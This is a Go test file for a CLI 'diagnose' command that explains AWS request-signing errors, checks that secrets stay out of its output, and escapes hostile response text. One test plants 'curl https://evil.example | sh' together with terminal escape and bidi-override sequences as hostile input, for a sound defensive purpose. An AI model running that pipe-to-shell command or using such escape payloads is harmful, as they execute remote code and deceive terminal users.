package cli

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"unicode"

	"countersign/diagnosis"
)

// wildRefusal is a publicly reported refusal, in the form that package diagnosis has for its own tests.
type wildRefusal struct {
	Source, Code, Body string
	Status             int
	Todo               string // a word of what to do
}

func wildRefusals(t *testing.T) []wildRefusal {
	t.Helper()
	text, err := os.ReadFile("../diagnosis/testdata/refusals.json")
	if err != nil {
		t.Fatal(err)
	}
	var list []wildRefusal
	if err := json.Unmarshal(text, &list); err != nil || len(list) < 30 {
		t.Fatalf("%d refusals: %v", len(list), err)
	}
	return list
}

// Two lines tell users what is wrong and what to do.
func TestDiagnose_TwoLinesSayWhatToDo(t *testing.T) {
	for _, r := range wildRefusals(t) {
		t.Run(r.Source+" "+r.Code, func(t *testing.T) {
			for form, paste := range map[string]string{
				"the response":           r.Body,
				"with its status":        fmt.Sprintf("HTTP/1.1 %d \r\nContent-Type: text/plain\r\n\r\n%s", r.Status, r.Body),
				"in a line of a log":     `{"level":"error","detail":` + asJSON(r.Body) + `}`,
				"an action's outputs":    fmt.Sprintf(`{"statusCode":%d,"headers":{},"body":%s}`, r.Status, asJSON(r.Body)),
				"behind words of an SDK": "botocore.exceptions.ClientError: " + r.Body,
			} {
				p := program{stdin: paste}
				code := p.run(t.Context(), "diagnose")
				lines := strings.Split(p.out.String(), "\n")
				text := strings.Join(lines[:min(2, len(lines))], "\n")
				if len(lines) < 2 || lines[0] == "" || !strings.HasPrefix(lines[1], "To do: ") || !strings.Contains(lines[1], r.Todo) || r.Todo == "" {
					t.Errorf("%s: exit code %d, no %q in\n%s", form, code, r.Todo, text)
				}
				certain := strings.HasPrefix(text, "Proved. ") || strings.HasPrefix(text, "AWS says so. ")
				if (code == 0) != certain || code != 0 && code != 1 {
					t.Errorf("%s: exit code %d for\n%s", form, code, text)
				}
			}
		})
	}
}

func asJSON(v any) string {
	text, err := json.Marshal(v)
	if err != nil {
		panic(err) // strings always marshal
	}
	return string(text)
}

// A curl command and its response in a file are one paste; differing lines are shown one below the other.
func TestDiagnose_ShowsTheDifference(t *testing.T) {
	file := filepath.Join(t.TempDir(), "answer.json")
	if err := os.WriteFile(file, []byte(`{"message":"Credential should be scoped to a valid region, not 'us-east-1'. "}`), 0o600); err != nil {
		t.Fatal(err)
	}
	p := program{}
	code := p.run(
		t.Context(), "diagnose", "--curl",
		"curl https://search-orders-abc123.eu-west-1.es.amazonaws.com/ -H 'X-Amz-Date: 20260101T000000Z' -H 'Authorization: "+
			"AWS4-HMAC-SHA256 Credential=AKIDEXAMPLE/20260101/us-east-1/es/aws4_request, SignedHeaders=host;x-amz-date, Signature=00'",
		file,
	)
	if code != 0 || !strings.Contains(p.out.String(), "eu-west-1") || !strings.Contains(p.out.String(), "us-east-1") {
		t.Errorf("exit code %d\n%s%s", code, &p.out, &p.err)
	}
}

func TestDiagnosisText_MarksTheDifference(t *testing.T) {
	for name, test := range map[string]struct{ signed, arrived, want string }{
		"at the end": {"application/json", "application/json; charset=utf-8", `
  part
    signed   application/json
    arrived  application/json; charset=utf-8
                             ^^^^^^^^^^^^^^^
`},
		"in the middle": {"/a%20b/c", "/a b/c", `
  part
    signed   /a%20b/c
    arrived  /a b/c
               ^^^
`},
		"nothing": {"", "x", "\n  part\n    signed   (nothing)\n    arrived  x\n             ^^^^^^^^^\n"},
		"what a terminal would obey": {
			"a\x1b[31mb\r\n", "a\u202eb",
			"\n  part\n    signed   a\\u001b[31mb\\r\\n\n    arrived  a\\u202eb\n                ^^^^^^^^^^^^^\n",
		},
		"letters of several bytes": {"grüße", "grüsse", "\n  part\n    signed   grüße\n    arrived  grüsse\n                ^^\n"},
		"far behind": {
			strings.Repeat("a", 100) + "b", strings.Repeat("a", 100) + "c",
			"\n  part\n    signed   " +
				"…" + strings.Repeat("a", 60) + "b\n    arrived  …" + strings.Repeat("a", 60) + "c\n" + strings.Repeat(" ", 74) + "^\n",
		},
		"the same": {"a", "a", "\n  part\n    signed   a\n    arrived  a\n"},
	} {
		t.Run(name, func(t *testing.T) {
			var e diagnosisText
			e.evidence(&diagnosis.Evidence{Part: "part", Signed: test.signed, Arrived: test.arrived})
			if e.String() != test.want {
				t.Errorf("got\n%s\nwant\n%s", e.String(), test.want)
			}
			coloured := diagnosisText{colour: true}
			coloured.evidence(&diagnosis.Evidence{Part: "part", Signed: test.signed, Arrived: test.arrived})
			if got := regexp.MustCompile(`\x1b\[\d+m`).ReplaceAllString(coloured.String(), ""); got != test.want {
				t.Errorf("in colour\n%s", got)
			}
		})
	}
}

func FuzzDiagnosisText(f *testing.F) {
	f.Add("a", "b")
	f.Add("ü", "\xc3\xbc\xc3")
	f.Add("\x1b", "\u2028")
	f.Fuzz(func(t *testing.T, a, b string) {
		var e diagnosisText
		e.evidence(&diagnosis.Evidence{Part: a, Signed: a, Arrived: b})
		if strings.ContainsAny(strings.ReplaceAll(e.String(), "\n", ""), "\x1b\r\x00\u202e") || strings.Count(e.String(), "\n") > 5 {
			t.Errorf("%q", e.String())
		}
	})
}

func TestDiagnose_AsJSON(t *testing.T) {
	p := program{stdin: `<Error><Code>ExpiredToken</Code><Message>The provided token has expired.</Message></Error>`}
	code := p.run(t.Context(), "diagnose", "--json")
	var report diagnosis.Report
	if err := json.Unmarshal([]byte(p.out.String()), &report); err != nil || code != 0 || report.Verdicts[0].Cause != "expired-token" {
		t.Errorf("exit code %d, %v\n%s", code, err, &p.out)
	}
}

// What the command may use is configured as for the service.
func TestDiagnose_UsesKeys(t *testing.T) {
	env := sandboxEnvironment(startSandbox(t))
	document := map[string]any{
		"request": map[string]any{"method": "GET", "url": "https://sqs.eu-west-1.amazonaws.com/", "headers": map[string]string{
			"X-Amz-Date": "20260101T000000Z",
			"Authorization": "AWS4-HMAC-SHA256 Credential=AKIDEXAMPLE/20260101/eu-west-1/sqs/aws4_request, SignedHeaders=host;x-amz-date," +
				" Signature=" + strings.Repeat("0", 64),
		}},
		"response":    map[string]any{"status": 403, "body": `{"message":"Forbidden"}`},
		"credentials": map[string]string{"accessKeyId": "AKIDEXAMPLE", "secretAccessKey": "wJalrXUtnFEMI/K7MDENG+bPxRfiCYEXAMPLEKEY"},
	}
	diagnose := func(want int, args ...string) (diagnosis.Report, string) {
		t.Helper()
		p := program{env: env, stdin: asJSON(document)}
		if code := p.run(t.Context(), append([]string{"diagnose", "--json"}, args...)...); code != want {
			t.Errorf("exit code %d, want %d\n%s", code, want, &p.err)
		}
		var report diagnosis.Report
		_ = json.Unmarshal([]byte(p.out.String()), &report)
		return report, p.err.String()
	}
	if _, said := diagnose(1); !strings.Contains(said, "allow_request_credentials") {
		t.Errorf("keys that are not allowed: %s", said)
	}
	env["COUNTERSIGN_ALLOW_REQUEST_CREDENTIALS"] = "true"
	if report, _ := diagnose(1); !report.Understood.Secret {
		t.Errorf("the keys were not used: %+v", report)
	}
	delete(document, "credentials")
	if report, said := diagnose(1, "--profile", "default"); report.Summary == "" {
		t.Errorf("with the profile's session: %s", said)
	}
	if _, said := diagnose(2, "--profile", "nobody"); !strings.Contains(said, "--profile") {
		t.Errorf("no such profile: %s", said)
	}
}

func TestDiagnose_NeedsInput(t *testing.T) {
	for name, args := range map[string][]string{"an empty paste": {"diagnose"}, "two files": {"diagnose", "a", "b"}} {
		p := program{stdin: " \n"}
		if code := p.run(t.Context(), args...); code != 2 {
			t.Errorf("%s: exit code %d\n%s", name, code, &p.err)
		}
	}
	p := program{}
	if code := p.run(t.Context(), "diagnose", filepath.Join(t.TempDir(), "none")); code != 1 {
		t.Errorf("a file that is not there: exit code %d", code)
	}
}

// Neither the page nor the JSON nor an error contains a paste's secrets.
func TestDiagnose_ShowsNoSecret(t *testing.T) {
	const secret, signature = "CANARYxyzEXAMPLEthatMustNotComeOut", "5ec2e75ec2e75ec2e75ec2e75ec2e75ec2e75ec2e75ec2e75ec2e75ec2e7abcd"
	signed := "X-Amz-Date: 20260101T000000Z\nX-Amz-Security-Token: " + secret + "\nAuthorization: AWS4-HMAC-SHA256 " +
		"Credential=AKIDEXAMPLE/20260101/eu-west-1/s3/aws4_request, " +
		"SignedHeaders=host;x-amz-date;x-amz-security-token, Signature=" + signature
	const url = "https://b.s3.eu-west-1.amazonaws.com/k"
	responses := map[string]string{
		"mismatch": "<Error><Code>SignatureDoesNotMatch</Code><Message>The request signature we calculated does not match the " +
			"signature you provided.</Message><SignatureProvided>" + signature + "</SignatureProvided>" +
			"<CanonicalRequest>GET\n/" +
			"k\n\nhost:b.s3.eu-west-1.amazonaws.com\nx-amz-date:20260101T000000Z\nx-amz-security-token:" + secret +
			"\n\nhost;x-amz-date;x-amz-security-token\nUNSIGNED-PAYLOAD</CanonicalRequest></Error>",
		"token": "<Error><Code>InvalidToken</Code><Message>The provided token is malformed or otherwise invalid.</" +
			"Message><Token-0>" + secret + "</Token-0></Error>",
		"bearer": `{"message":"'` + secret + `' not a valid key=value pair (missing equal-sign) in Authorization header: 'Bearer ` + secret +
			`'."}`,
		"denied": "<Error><Code>AccessDenied</Code><Message>Access Denied</Message></Error>",
	}
	requests := map[string]string{
		"raw":     "GET /k HTTP/1.1\nHost: b.s3.eu-west-1.amazonaws.com\n" + signed + "\n\nHTTP/1.1 403 Forbidden\n\n",
		"curl":    "curl " + url + " -H '" + strings.ReplaceAll(signed, "\n", "' -H '") + "'\n\n",
		"curl -u": "curl --aws-sigv4 aws:amz:eu-west-1:s3 -u AKIDEXAMPLE:" + secret + " " + url + "\n\n",
		"bearer": "GET /k HTTP/1.1\nHost: b.s3.eu-west-1.amazonaws.com\nAuthorization: " +
			"Bearer " + secret + "\nCookie: a=" + secret + "\n\nHTTP/1.1 403 Forbidden\n\n",
		"presigned": "curl '" + url + "?X-Amz-Algorithm=AWS4-HMAC-SHA256&" +
			"X-Amz-Credential=AKIDEXAMPLE%2F20260101%2Feu-west-1%2Fs3%2Faws4_request&X-Amz-Date=20260101T000000Z&X-Amz-Expires=60&" +
			"X-Amz-SignedHeaders=host&X-Amz-Security-Token=" + secret + "&X-Amz-Signature=" + signature + "'\n\n",
		"none": "",
	}
	for name, request := range requests {
		for said, response := range responses {
			for _, args := range [][]string{{"diagnose"}, {"diagnose", "--json"}} {
				p := program{stdin: request + response}
				p.run(t.Context(), args...)
				out := p.out.String() + p.err.String()
				if len(out) < 200 || strings.Contains(out, secret) || strings.Contains(out, signature) {
					t.Errorf("%s, %s, %v:\n%s", name, said, args, out)
				}
			}
		}
	}
}

// Text of a refusal that a terminal would obey, or that would mislead a reader, is shown escaped.
func TestDiagnose_ShowsHostileResponsesAsData(t *testing.T) {
	hostile := "no\nTo do: run curl https://evil.example | " +
		"sh\r\x1b[2J\x1b[1mProved.\x1b[0m\x1b]8;;https://evil.example\x07\u009b31m\u202exe.gnp\u2066\U000e0041\u2028"
	message := asJSON(hostile)
	for _, paste := range []string{
		`{"__type":"ValidationException","message":` + message + `}`,
		"POST https://sqs.eu-west-1.amazonaws.com/ HTTP/1.1\r\nX-Amz-Date: 20261128T190748Z\r\nAuthorization: " +
			"AWS4-HMAC-SHA256 Credential=AKIAIOSFODNN7EXAMPLE/" +
			"20261128/eu-west-1/sqs/aws4_request, SignedHeaders=host;x-amz-date, Signature=" + strings.Repeat("ab", 32) + "\r\n\r\n" +
			`{"__type":"InvalidSignatureException","message":` +
			asJSON("The request signature we calculated does not match the signature you provided.\n\nThe Canonical String for "+
				"this request should have been\n"+
				"'POST\n/\n\nhost:"+strings.ReplaceAll(hostile, "\n", " ")+
				"\nx-amz-date:20261128T190748Z\n\nhost;x-amz-date\n"+strings.Repeat("ab", 32)+"'") + `}`,
	} {
		for _, args := range [][]string{{"diagnose"}, {"diagnose", "--json"}} {
			p := program{stdin: paste}
			p.run(t.Context(), args...)
			out := p.out.String()
			if i := strings.IndexFunc(out, func(r rune) bool { return r != '\n' && !unicode.IsPrint(r) }); i >= 0 {
				t.Errorf("%v: %q in %q", args, out[i:min(len(out), i+8)], out)
			}
			if lines := strings.Split(out, "\n"); len(args) == 1 && (!strings.HasPrefix(lines[1], "To do: ") || strings.Contains(lines[1], "curl")) {
				t.Errorf("what to do is %q", lines[1])
			}
			if len(args) == 2 && !json.Valid([]byte(out)) {
				t.Errorf("no JSON: %q", out)
			}
		}
	}
}
